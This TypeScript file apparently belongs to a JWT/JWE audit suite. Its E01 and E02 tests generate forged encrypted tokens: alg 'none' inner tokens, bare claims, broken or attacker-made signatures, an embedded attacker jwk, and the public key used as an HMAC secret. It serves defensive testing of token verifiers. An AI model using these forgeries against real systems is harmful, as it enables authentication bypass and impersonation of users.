import type { ForgeContext, Forgery, TokenAttack } from '../attack.ts';
import { attackerForgery, attackerKey, likelyAlg, macForgery } from '../attacker-forgery.ts';
import { encodeUtf8 } from '../encoding.ts';
import { encryptionOf, sealForgery } from '../jwe-forgery.ts';
import { writeJwe } from '../jwe-writer.ts';
import type { JsonObject } from '../known-token.ts';
import { freshClaims, joinToken, writeInput } from '../unsafe-writer.ts';

/** E01. */
export const unsignedWithin: TokenAttack = {
  kind: 'token',
  id: 'E01',
  title: 'Encrypted, and unsigned within',
  severity: 'critical',
  cwe: 347,
  source: ['RFC 8725 §2.3', 'RFC 8725 §3.3', 'RFC 7519 §11.2'],
  how: 'Encryption hides a token and says nothing of its author: the key for it is public, and anybody may encrypt with it. A verifier that looks for a signed token within, finds none, and takes what it decrypted, has mistaken the one for the other. The attacker encrypts claims of his own, bare or as a token of algorithm none.',
  victims: [{ what: 'pac4j-jwt', advisory: 'CVE-2026-29000' }],
  fix: 'After decryption there must be a signed token, and it must verify. Have no path from decrypted bytes to claims.',
  needs: ['encryption-key'],
  expect: 'refused',
  forge: async (context) => {
    if (encryptionOf(context).content === 'claims') return [];
    const { good } = context;
    const claims = freshClaims(context);
    const unsigned = (header: JsonObject): string => joinToken(writeInput(header, claims), '');
    const none = unsigned({ ...good.header, alg: 'none' });
    const inner: Readonly<Record<string, string>> = {
      'claims-alone': JSON.stringify(claims),
      'unsigned-token': none,
      'unsigned-token-in-capitals': unsigned({ ...good.header, alg: 'NONE' }),
      'unsigned-token-bare': unsigned({ alg: 'none' }),
      'signature-empty': unsigned(good.header),
      'two-segments': writeInput({ ...good.header, alg: 'none' }, claims),
      'payload-alone': writeInput({}, claims).split('.')[1] ?? '',
    };
    const forgeries: Forgery[] = [];
    for (const [variant, plaintext] of Object.entries(inner)) {
      forgeries.push(await sealForgery(context, variant, { plaintext }));
      const header = { cty: undefined };
      forgeries.push(await sealForgery(context, `${variant}-unannounced`, { plaintext, header }));
    }
    return forgeries;
  },
};

/** E02. */
export const badSignatureWithin: TokenAttack = {
  kind: 'token',
  id: 'E02',
  title: 'Encrypted, with a wrong signature or another nesting within',
  severity: 'critical',
  cwe: 347,
  source: ['RFC 8725 §2.3', 'RFC 8725 §3.3', 'RFC 7516 §11.4'],
  how: 'A token that decrypts looks trusted, and the check of the signature within is easily left out, or made only where the header announces one. Some readers go on as long as they find tokens, and take what is wrapped twice, or the other way round. The audit encrypts tokens that the attacker signed, that nobody signed, and such as are wrapped in another order.',
  victims: [],
  fix: 'Have one nesting, written down: a signed token in an encrypted one, once. Verify what is within as strictly as a token that came alone.',
  needs: ['encryption-key'],
  expect: 'refused',
  forge: async (context) => {
    const { key, alg, enc, content } = encryptionOf(context);
    if (content === 'claims') return [];
    const inner = await wrongWithin(context);
    const again = await writeJwe({ alg, enc, key, plaintext: context.good.text, header: { kid: key.kid, cty: 'JWT' } });
    const forgeries: Forgery[] = [];
    for (const [variant, plaintext] of Object.entries({ ...inner, 'encrypted-twice': again })) {
      forgeries.push(await sealForgery(context, variant, { plaintext }));
    }
    const unannounced = { plaintext: inner['attacker-signed'] ?? '', header: { cty: undefined } };
    return [...forgeries, await sealForgery(context, 'attacker-signed-unannounced', unannounced)];
  },
};

async function wrongWithin(context: ForgeContext): Promise<Readonly<Record<string, string>>> {
  const { good, keys } = context;
  const [head, body, signature] = good.segments;
  const key = await attackerKey(context, likelyAlg(context));
  const signed = await attackerForgery(context, key, 'within', {});
  const embedded = await attackerForgery(context, key, 'within', { header: { kid: undefined, jwk: key.publicJwk } });
  const empty = await macForgery(context, new Uint8Array(0), 'within', {});
  const pem = keys[0]?.spkiPem;
  const confused = pem === undefined ? undefined : await macForgery(context, encodeUtf8(pem), 'within', {});
  return {
    'broken-signature': `${head}.${body}.${signature.startsWith('A') ? 'B' : 'A'}${signature.slice(1)}`,
    'other-payload': `${head}.${writeInput({}, { ...good.payload, sub: 'attacker' }).split('.')[1]}.${signature}`,
    'attacker-signed': signed.token,
    'attacker-signed-with-jwk': embedded.token,
    'empty-key': empty.token,
    ...(confused === undefined ? {} : { 'public-key-as-secret': confused.token }),
    nothing: '',
  };
}
